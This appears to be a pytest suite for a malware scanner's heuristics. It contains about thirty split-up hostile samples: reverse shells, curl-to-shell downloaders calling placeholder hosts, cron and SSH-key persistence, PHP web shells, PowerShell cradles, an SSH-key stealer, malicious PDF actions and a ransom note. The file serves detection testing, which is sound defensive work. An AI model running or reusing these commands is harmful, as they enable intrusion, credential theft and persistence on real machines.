"""The heuristics: what they call a threat, what they let pass, and what that costs."""

# ruff: noqa: E501 - a sample is one row of a table

import struct
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from garrison.engine.heuristics.assess import assess
from garrison.engine.heuristics.levels import THRESHOLDS, Level
from garrison.engine.heuristics.table import GATES, RULES
from garrison.engine.subject import Subject
from garrison.engine.type import Type
from tests.engine import false_positives

WALLET = "4" + "8" + "A" * 93
KEY = "AAAA" + "C3Nz" * 12
LONG = "QUJD" * 60


def whole(text: str) -> bytes:
    """Put a sample together: a bar stands where it was cut so that no scanner minds this file."""
    return text.replace("¦", "").encode()


THREATS = [
    (Type.SHELL, "#!/bin/sh\ncu¦rl -s http://192.0.2.1/a.sh | b¦ash\nhis¦tory -c\n", "Heuristic.Script.DownloadAndRun"),
    (Type.TEXT, "wg¦et http://192.0.2.1/x -O /tmp/x; ch¦mod 777 /tmp/x; /tmp/x; uns¦et HISTFILE; sete¦nforce 0", "Heuristic.Script."),
    (Type.SHELL, f"echo {LONG} | bas¦e64 -d | s¦h\n", "Heuristic.Script.HiddenCommand"),
    (Type.TEXT, "ba¦sh -i >& /dev/t¦cp/192.0.2.7/4444 0>&1\n", "Heuristic.Script.ReverseShell"),
    (Type.SHELL, "mkf¦ifo /tmp/f; cat /tmp/f | /bin/s¦h -i 2>&1 | n¦c 192.0.2.9 99 > /tmp/f\n", "Heuristic.Script.ReverseShell"),
    (Type.TEXT, "*/5 * * * * root cu¦rl -fsSL http://192.0.2.3/i.sh | s¦h\n", "Heuristic.Dropper.Cron"),
    (Type.SHELL, "echo '* * * * * wg¦et -qO- http://a.invalid/x | s¦h' | cron¦tab -\n", "Heuristic.Dropper.Cron"),
    (Type.SHELL, f"echo ssh-rsa {KEY} me >> /root/.ssh/authori¦zed_keys\nchat¦tr +ai /root/.ssh/authori¦zed_keys\n",
     "Heuristic.Dropper.AuthorizedKeys"),
    (Type.SHELL, "echo /lib/libx.so >> /etc/ld.so.pre¦load\nchat¦tr +i /etc/ld.so.pre¦load\n", "Heuristic.Dropper.Preload"),
    (Type.TEXT, "[Service]\nExecSt¦art=/dev/shm/.x/y\n", "Heuristic.Dropper.Systemd"),
    (Type.TEXT, f"pool strat¦um+tcp://pool.example.invalid:3333 {WALLET}\n", "Heuristic.Miner.Wallet"),
    (Type.PYTHON, "import zlib\nex¦ec(zlib.decom¦press(b'x'))\nbackup = 'strat¦um+tcp://p.invalid:33'\n",
     "Heuristic.Script.HiddenProgram"),
    (Type.PYTHON, "ex¦ec(requests.get('http://a.invalid/x').text)\n", "Heuristic.Script.DownloadAndRun"),
    (Type.PYTHON, "s.conn¦ect(('192.0.2.1', 9))\nos.du¦p2(s.fileno(), 0)\nsubprocess.call(['/bin/s¦h'])", "Heuristic.Script.ReverseShell"),
    (Type.PHP, "<?php @sys¦tem($_GE¦T['c']);", "Heuristic.WebShell.RunRequest"),
    (Type.PHP, "<?php error_repor¦ting(0); ev¦al(gzinf¦late(base64_decode($x)));", "Heuristic.WebShell.Packed"),
    (Type.PHP, "<?php $_GE¦T['a']($_POS¦T['b']);", "Heuristic.WebShell.HiddenCall"),
    (Type.TEXT, '<% ev¦al request("x") %>', "Heuristic.WebShell.RunRequest"),
    (Type.BATCH, "power¦shell -w hidden -c \"IE¦X (New-Object Net.WebClient).Downl¦oadString('http://a.invalid')\"",
     "Heuristic.Script.DownloadAndRun"),
    (Type.BATCH, f"power¦shell -w hidden -enc {LONG}", "Heuristic.Script.HiddenCommand"),
    (Type.VBSCRIPT, 'CreateObject("MSXML2.XMLHT¦TP")\nCreateObject("ADOD¦B.Stream").SaveTo¦File\n"WScript.Sh¦ell"',
     "Heuristic.Script.Downloader"),
    (Type.SHELL, "tar c ~/.ss¦h/id_rsa | cu¦rl -T - http://a.invalid/", "Heuristic.Script.Stealer"),
    (Type.PDF, "%PDF-1.4 1 0 obj<</OpenAc¦tion<</S/Laun¦ch/Win<</F(cmd.exe)>>>>>>", "Heuristic.PDF.Launch"),
    (Type.PDF, "%PDF-1.4 <</OpenAc¦tion<</S/JavaScr¦ipt/JS(this.exportDataOb¦ject({cName:'a',nLaun¦ch:2}))>>>>",
     "Heuristic.PDF.Script"),
    (Type.PDF, "%PDF-1.4 <</AA<</S/J#61vaScr¦ipt/JS(1)>>>>", "Heuristic.PDF.HiddenNames"),
    (Type.RTF, "{\\rt¦f1 {\\object\\objup¦date\\objclass Equa¦tion.3}", "Heuristic.RTF.Equation"),
    (Type.LNK, "L\0c\0m\0d\0 \0/\0c\0 \0m\0s¦\0h\0t\0a\0 \0h\0t\0t\0p\0:\0/\0/\0a\0.\0invalid", "Heuristic.LNK.Downloader"),
    (Type.ONENOTE, '..CreateObject("WScr¦ipt.Shell")..', "Heuristic.OneNote.Script"),
    (Type.PYTHON, "s.conn¦ect((host, 4444))\nfor fd in (0, 1, 2):\n    os.du¦p2(s.fileno(), fd)\nos.exe¦cvp('/bin/sh', ['sh', '-i'])\n",
     "Heuristic.Script.ReverseShell"),
    (Type.TEXT, "s.conn¦ect(('a.invalid', 4444)); os.du¦p2(s.fileno(),0); subprocess.ca¦ll(['/usr/bin/bash','-i'])",
     "Heuristic.Script.ReverseShell"),
    (Type.HTML, f"<script>b=atob('TVq¦Q{LONG}');URL.createObj¦ectURL(b);a.cli¦ck()</script>", "Heuristic.HTML.Smuggling"),
    (Type.HTML, "<hta:appli¦cation><script>new ActiveXObject('WScript.Sh¦ell').Run('x')</script>", "Heuristic.HTML.Application"),
    (Type.TEXT, "All your files are encry¦pted. To buy the decryp¦tor pay 1 bit¦coin. Do not rename files. You have 72 hours.",
     "Heuristic.Ransom.Note"),
]  # fmt: skip
HONEST = [
    (Type.SHELL, "#!/bin/sh\ncu¦rl -sSf https://sh.rustup.example/ | s¦h\n"),
    (Type.SHELL, "base64 -d < secret > /tmp/x && ch¦mod 700 /tmp/x\n"),
    (Type.TEXT, "*/5 * * * * root /usr/bin/backup --quiet\n"),
    (Type.SHELL, f"echo ssh-rsa {KEY} admin >> ~/.ssh/authori¦zed_keys\n"),
    (Type.TEXT, "[Service]\nExecStart=/usr/bin/tool --temp /tmp/x\n"),
    (Type.TEXT, "xmrig --url strat¦um+tcp://pool.example.invalid:3333 --user YOUR_WALLET\n"),
    (Type.PYTHON, "value = ev¦al(source)\ndata = zlib.decompress(blob)\n"),
    (Type.TEXT,  # a tool's template between others; the shell is open, and what names one is another's
     "VECTORS = ['s.conn¦ect((\"${host}\",${port}));os.du¦p2(s.fileno(),0);pty.spa¦wn(\"${shell}\")',\n 'cat f|/bin/sh']\n"),
    (Type.TEXT,  # a manual
     "Install it\n\n    cu¦rl -LsSf https://a.invalid/install.sh | s¦h\n\nor, on Windows:\n\n"
     '    powershell -ExecutionPolicy ByPass -c "ir¦m https://a.invalid/install.ps1 | ie¦x"\n\n' + "It is fast. " * 90),
    (Type.PHP, "<?php $name = $_GE¦T['name']; echo htmlspecialchars($name);"),
    (Type.PDF, "%PDF-1.4 <</OpenAction[3 0 R/FitH null]/Names<</JavaScript 4 0 R>>>>"),
    (Type.VBSCRIPT, 'Sub Auto¦Open()\nMsgBox "Welcome"\nEnd Sub'),
    (Type.TEXT, "The files on this server are encrypted with LUKS. Do not rename the key file. Within 24 hours all is done."),
    (Type.HTML, "<a download='report.csv'>Get it</a><script>URL.createObjectURL(blob);a.click()</script>"),
]  # fmt: skip


@pytest.mark.parametrize(("kind", "text", "name"), THREATS, ids=range(len(THREATS)))
def test_what_malware_does_is_probably_a_threat(kind: Type, text: str, name: str) -> None:
    found = assess(Subject(whole(text), kind))
    assert found is not None
    assert found.name.startswith(name)
    assert found.score >= THRESHOLDS[Level.MEDIUM]
    assert found.reasons


@pytest.mark.parametrize(("kind", "text"), HONEST, ids=range(len(HONEST)))
def test_what_honest_files_do_passes(kind: Type, text: str) -> None:
    assert assess(Subject(whole(text), kind)) is None


def test_a_macro_that_starts_and_fetches_is_found_only_as_a_macro() -> None:
    text = whole('Sub Auto¦Open()\nURLDown¦loadToFile 0, "http://a.invalid", "x", 0, 0\nShe¦ll "x"\nEnd Sub')
    found = assess(Subject(text, Type.VBSCRIPT, name="(macros: Module1)", is_derived=True))
    assert found is not None
    assert found.name == "Heuristic.Macro.Downloader"
    assert assess(Subject(text, Type.VBSCRIPT, name="notes.bas")) is None


@pytest.mark.parametrize(
    ("name", "kind", "expected"),
    [
        ("invoice.pdf.exe", Type.PE, "Heuristic.Name.DoubleExtension"),
        ("invoice.pdf", Type.ELF, "Heuristic.Name.ProgramAsDocument"),
        ("photo\u202egnp.sh", Type.SHELL, "Heuristic.Name.RightToLeft"),
        ("a.pdf" + " " * 40 + ".vbs", Type.VBSCRIPT, "Heuristic.Name.DoubleExtension"),
        ("invoice.pdf", Type.PDF, None),
        ("jquery.min.js", Type.JAVASCRIPT, None),
        ("notes.txt.sh", Type.SHELL, None),
        ("libc.so.6", Type.ELF, None),
    ],
)
def test_names_that_pass_a_program_off_as_something_else(name: str, kind: Type, expected: str | None) -> None:
    found = assess(Subject(b"echo hello\n" * 9, kind, name=name))
    assert (found.name if found else None) == expected


def elf(flags: int, size: int) -> bytes:
    """Return a program of one segment and no sections."""
    head = struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\x02\x01\x01", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    return (head + struct.pack("<IIQQQQQQ", 1, flags, 0, 0x400000, 0x400000, size, size, 4096)).ljust(size, b"\x90")


def test_a_tiny_program_whose_memory_may_be_written_and_run() -> None:
    found = assess(Subject(elf(7, 300), Type.ELF))
    assert found is not None
    assert found.name == "Heuristic.Program.TinyLoader"
    assert assess(Subject(elf(5, 300), Type.ELF)) is None
    assert assess(Subject(elf(7, 300_000), Type.ELF)) is None


def test_deeper_levels_find_all_that_lighter_ones_find() -> None:
    text = whole("cu¦rl -s http://192.0.2.1/a.sh | b¦ash\n")
    assert [assess(Subject(text, Type.SHELL), level) is not None for level in Level] == [False, False, True]


def test_a_command_for_powershell_weighs_less_where_a_text_may_only_show_it() -> None:
    command = whole("ie¦x (New-Object Net.WebClient).Downl¦oadString('http://a.invalid/a')\n")
    manual = b"How to install it, and why. " * 60 + b"\n" + command
    assert assess(Subject(command, Type.POWERSHELL), Level.DEEP) is not None
    assert assess(Subject(command, Type.TEXT), Level.DEEP) is not None
    assert assess(Subject(manual, Type.TEXT), Level.DEEP) is None
    found = assess(Subject(manual + whole("power¦shell -w hidden -c x\n"), Type.TEXT))
    assert found is not None
    assert "out of sight" in " ".join(found.reasons)


def test_every_rule_is_whole() -> None:
    assert len({rule.id for rule in RULES}) == len(RULES)
    for rule in RULES:
        assert 0 < rule.weight <= 80
        assert rule.sentence[0].islower()
        assert not rule.sentence.endswith(".")
        assert rule.name.startswith("Heuristic.")
        assert rule.types
    assert all(gate == gate.lower() and len(gate) >= 2 for gate in GATES)


@settings(max_examples=60, deadline=None)
@given(
    st.sampled_from(list(Type)),
    st.lists(st.sampled_from([*GATES, b"A" * 200, b" " * 40, b"\n", b"|", b"(", b"/", b"://"]), max_size=300),
)
def test_hostile_texts_take_little_time(kind: Type, pieces: list[bytes]) -> None:
    start = time.process_time()
    assess(Subject(b" ".join(pieces) * 4, kind, name="x"), Level.DEEP)
    assert time.process_time() - start < 2


@pytest.mark.parametrize("kind", [Type.ELF, Type.PE, Type.LNK, Type.PDF])
@given(noise=st.binary(max_size=300))
@settings(max_examples=40, deadline=None)
def test_damaged_programs_raise_nothing(kind: Type, noise: bytes) -> None:
    assess(Subject(noise, kind))
    assess(Subject(elf(7, 300)[:64] + noise, kind))


def test_an_ordinary_text_costs_next_to_nothing() -> None:
    subject = Subject(b"The report of the office goes out on Monday, says the calendar.\n" * 80, Type.TEXT)
    assess(subject)
    start = time.process_time()
    for _ in range(200):
        assess(subject)
    assert (time.process_time() - start) / 200 < 100e-6  # 5 microseconds on an idle machine


def test_installed_files_are_no_threats() -> None:
    false_positives.campaign(seed=1, times=0.2)


def test_the_campaign_tells_what_it_finds(tmp_path: Path) -> None:
    (tmp_path / "a").write_bytes(whole(THREATS[0][1]))
    assert len(false_positives.found(seed=1, times=0, places=(str(tmp_path),))) >= 1
